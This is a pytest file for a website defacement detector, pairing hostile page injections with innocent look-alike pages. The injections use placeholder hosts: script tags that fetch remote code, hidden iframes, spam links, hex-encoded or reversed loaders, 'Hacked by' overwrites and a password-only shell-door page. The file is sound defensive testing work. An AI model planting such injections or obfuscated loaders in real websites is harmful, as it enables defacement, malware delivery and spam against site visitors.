"""What captures of real victims taught: each signal on a page of our own making, and the innocent page beside it."""

from __future__ import annotations

import pytest
from portal import MENU, TEXT, rulebook

from probes.defacement.page import PageVerdict, judge_page

DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
HEX = "".join(f"{ord(letter):02X}" for letter in '<iframe src="http://thu.vidu-khung.com/x.php" width=1></iframe>')
LIVING = f"<html><head><title>Cổng thông tin</title>%s</head><body>{MENU}<main><p>{TEXT * 4}</p></main>%s</body></html>"


def judge(body: str) -> PageVerdict:
    return judge_page(body.encode(), content_type="text/html", url="https://chodon.backan.gov.vn/", rules=rulebook())


def codes(verdict: PageVerdict) -> set[str]:
    return {reason.code for reason in verdict.reasons}


@pytest.mark.parametrize(
    ("code", "foot"),
    [
        ("overwritten", "<script>document.body.innerHTML = '<center><h1>Hacked by thu crew</h1></center>';</script>"),
        ("overwritten", "<script>document.write(`<html><title>x</title><h1>Hacked by thu crew</h1></html>`)</script>"),
        (
            "overwritten",
            "<script>document.body.innerHTML = '';var d=document.createElement('div');"
            "d.innerHTML='<h1>Hacked by thu crew</h1>';document.body.appendChild(d);</script>",
        ),
        ("link-strange", '<p><a href="https://vidu-khac.com/">online casino</a></p>'),
        (
            "hidden-driven",
            "<script>document.write('<style>.vt{position:absolute;left:-9999px}</style>')</script>"
            '<div class="vt"><a href="https://vidu-khac.com/">thu</a> <a href="https://vidu-la.com/">thu</a></div>',
        ),
        ("script-free", '<script src="https://thu-moi-nhe.pages.dev/a.js"></script>'),
        (
            "hidden-same",
            '<div style="display:none">'
            + " - ".join(f'<a href="https://vidu-{n}.com/">thu nghiem</a>' for n in range(5))
            + "</div>",
        ),
        (
            "hidden-lone",
            "<style>.vt{position:absolute;clip:rect(429px,auto,auto,467px)}</style>"
            '<div class=vt><a href="https://vidu-khac.com/">thu nghiem thoi</a></div>',
        ),
        (
            "hidden-lone",
            '<div style="overflow:hidden;height:1px"><a href="https://vidu-khac.com/">thu nghiem thoi</a></div>',
        ),
        (
            "frame-odd",
            '<script>document.write(\'<style>.vt{opacity: 0.0;}</style><div class="vt"><iframe height=150 width=200 '
            'src="http://vidu-khac.net/about.php"></iframe></div>\');</script>',
        ),
        ("frame-odd", '<iframe src="http://vidu-khac.pl/rc/" width=1 height=1 style="border:0"></iframe>'),
        ("frame-odd", '<iframe src="http://vidu-khac.pl/rc/" style="display: none"></iframe>'),
        ("kit", "<script>s += String.fromCharCode(parseInt(c_clr,16)-15);</script>"),
        ("kit", f"<script>var il=[{','.join(f't*{n}.5' for n in range(30))},t];</script>"),
        ("kit", '<script src="http://vidu-khac.de/js/jquery.min.php?c_utt=G91825"></script>'),
        ("script-odd", '<script src="http://vidu-khac.com/pops?c=aHR0cCUzQS8vbG9jYWxob3N0&a=1"></script>'),
        ("link-named", '<p>xem <a href="https://www.replica-vidu.net/">replica rolex</a></p>'),
        ("link-named", '<p>xem <a href="https://vidu-khac.net/">www.replicawatch.cx</a></p>'),
        ("kit", "</html><iframe src=Photo.scr width=1 height=1 frameborder=0></iframe>"),
        ("pop-under", '<script src="//vidu-khac.com/apu.php?zoneid=683723"></script>'),
        ("script-odd", '<p><script src="https://cong-cu.vidu.my.id/raw/x"></script></p>'),
        ("script-random", '<script src="https://vidu-khac.com/QxTbR9kLmZwP3vNcYdHsWq7JfGt"></script>'),
    ],
)
def test_what_victims_showed_is_told_on_a_living_page(code: str, foot: str) -> None:
    verdict = judge(LIVING % ("", foot))
    assert code in codes(verdict)
    assert verdict.verdict != "clean"


@pytest.mark.parametrize(
    "foot",
    [
        "<script>document.body.innerHTML = '<h1>Đang tải trang, xin chờ</h1>';</script>",
        "<script>var cu = document.body.innerHTML; document.body.innerHTML = cu;</script>",
        "<script>document.write('<div class=\"ngay\">' + new Date().getFullYear() + '</div>');</script>",
        '<p><a href="https://vidu-khac.com/">Trang của đơn vị bạn</a></p>',
        '<script src="https://vidu-khac.com/thu-vien/ban-do.js"></script>',
        '<div style="display:none">'
        + "".join(f'<a href="https://so-{n}.vidu-{n}.vn/">Sở số {n}</a>' for n in range(5))
        + "</div>",
        '<div style="display:none">'
        + "".join(f'<p>{TEXT[:90]}</p><a href="https://vidu-{n}.com/">xem thêm</a>' for n in range(5))
        + "</div>",
        '<iframe src="https://do-luong.vidu-khac.com/dong-bo.html" width="1" height="1"></iframe>',
        '<iframe src="http://vidu-khac.com/dem.php?ma=1" width="0" height="0"></iframe>',
        "<script>var mau = [a*0.5, a*1.5, a*2.5]; s += String.fromCharCode(parseInt(h.substr(i, 2), 16));</script>",
        '</html><iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0"></iframe>',
        '<iframe src="https://vidu-khac.com/ban-do.html" width="600" height="400"></iframe>',
        '<script>var x = new ActiveXObject("Excel.Application");</script>',
    ],
)
def test_the_same_ways_without_the_words_are_a_living_page(foot: str) -> None:
    assert judge(LIVING % ("", foot)).verdict == "clean"


def test_a_lone_field_signed_as_hackers_sign_is_a_door_and_a_login_is_none() -> None:
    field = '<form method=post><input type=password name=p><input type=submit value=">>"></form>'
    signed = f"<html><title>thu cyber team</title><body bgcolor=black text=lime><center>{field}</center></body></html>"
    assert {"shell-door", "signed-title"} <= codes(judge(signed))
    login = f"<html><title>Đăng nhập</title><body bgcolor=black text=white><center>{field}</center></body></html>"
    assert not {"shell-door", "signed-title"} & codes(judge(login))


def test_a_frame_that_only_shows_once_decoded() -> None:
    turn = "for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16));document.write(o);"
    verdict = judge(LIVING % ("", f"<script>var h='{HEX}',o='';{turn}</script>"))
    assert verdict.verdict == "defaced", codes(verdict)
    assert "script-decoded" in codes(verdict)


def test_two_ways_to_one_foreign_place() -> None:
    both = '<meta http-equiv=refresh content="0;url=https://%s/"><script>location.href="https://%s/"</script>'
    assert "redirect-twice" in codes(judge(both % ("vidu-khac.com", "vidu-khac.com")))
    assert "redirect-twice" not in codes(judge(both % ("backan.gov.vn", "backan.gov.vn")))


@pytest.mark.parametrize(
    "words",
    [
        "We are tired of your corrupt government. We demand justice.",
        "Gobierno asesino, el pueblo despierta. Somos Anonymous.",
        "Ey faşist devlet, hesap vereceksin!",
        "Rakyat bangkit melawan penindasan. Hidup atau mati!",
        "我是不会告诉你们的安全做得有多烂，想控制你们分分钟的事",
        "We apologize for this inconvenience, but this is the only way we could convey our message to you",
    ],
)
def test_charges_against_rulers_in_place_of_a_page(words: str) -> None:
    alone = f"<html><body bgcolor=black text=white><center><h2>{words}</h2></center></body></html>"
    assert judge(alone).verdict == "defaced"
    assert judge(LIVING % ("", f"<p>{words}</p>")).verdict != "defaced"


def test_an_unseen_frame_behind_the_document() -> None:
    frame = '<iframe src="https://vidu-khac.com/dem" style="visibility: hidden" width="10" height="10"></iframe>'
    behind = judge((LIVING % ("", "")) + frame)
    assert "frame-odd" in codes(behind)
    assert behind.verdict == "defaced"
    assert judge(LIVING % ("", frame)).verdict == "clean"


def test_markup_written_backwards() -> None:
    mirrored = '<script src="http://134.249.116.78/x.js"></script>'[::-1]
    coded = "".join(f"\\x{ord(letter):02X}" for letter in mirrored)
    names = '"\\x72\\x65\\x76\\x65\\x72\\x73\\x65"'
    verdict = judge(
        LIVING
        % ("", f'<script>var _0xaa=[{names},"{coded}"];document.write(_0xaa[1].split("").reverse().join(""))</script>')
    )
    assert verdict.verdict == "defaced", codes(verdict)


def test_a_script_that_stands_outside_the_document() -> None:
    script = '<script src="https://vidu-khac.com/same.js"></script>'
    assert judge(script + LIVING % ("", "")).verdict == "defaced"
    assert judge(LIVING % (script, "")).verdict == "clean"


def test_a_frame_of_no_size_to_a_page_without_encryption() -> None:
    frame = "<iframe src=%s width=0 height=0></iframe>"
    assert "frame-odd" in codes(judge(LIVING % ("", frame % "http://vidu-khung.com/a.htm")))
    assert "frame-odd" not in codes(judge(LIVING % ("", frame % "https://vidu-khung.com/a.htm")))


def test_links_of_sellers_that_roll_where_there_is_no_room() -> None:
    links = '<a href="http://vidu-ban.com/">hacklink</a> <a href="http://vidu-ban.net/">wso shell</a>'
    assert "hidden-sold" in codes(
        judge(LIVING % ("", f'<marquee style="position: absolute; width: 0px;">{links}</marquee>'))
    )
    assert judge(LIVING % ("", '<marquee style="width: 100%"><a href="/tin">Tin mới</a></marquee>')).verdict == "clean"


def test_the_old_way_to_write_a_counter_is_no_loader() -> None:
    tag = 'document.write(unescape("%%3Cscript src=%%27http://%s/js15.js%%27 type=%%27text%%27%%3E%%3C/script%%3E"))'
    assert judge(LIVING % ("", f"<script>{tag % 's10.histats.com'}</script>")).verdict == "clean"
    assert "loader" in codes(judge(LIVING % ("", f"<script>{tag % 'thu.vidu-khac.com'}</script>")))
    two = (tag % "s10.histats.com").replace("/script%3E", "/script%3E%3Cscript src=//thu.vidu-khac.com/a.js%3E")
    assert "loader" in codes(judge(LIVING % ("", f"<script>{two}</script>")))


def test_a_packed_menu_that_hides_its_makers_name() -> None:
    words = "|".join(["css", "animate", "hover", "visibility", "overflow", "addClass", *map(str, range(70)), DIGITS])
    moves = "".join(f"$(0).css(1).animate({n});" for n in range(6))
    sealed = "f=function(p){s=70;return String.fromCharCode(p.charCodeAt(y)^s[i])};eval(f(1));"
    packed = f"<script>eval(function(p,a,c,k,e,d){{}}('{sealed}{moves}',62,77,'{words}'.split('|'),0,{{}}))</script>"
    assert judge(LIVING % ("", packed)).verdict == "clean"
    assert judge(LIVING % ("", packed.replace(moves, "").replace("animate|hover|visibility|overflow|", ""))).score > 0.4
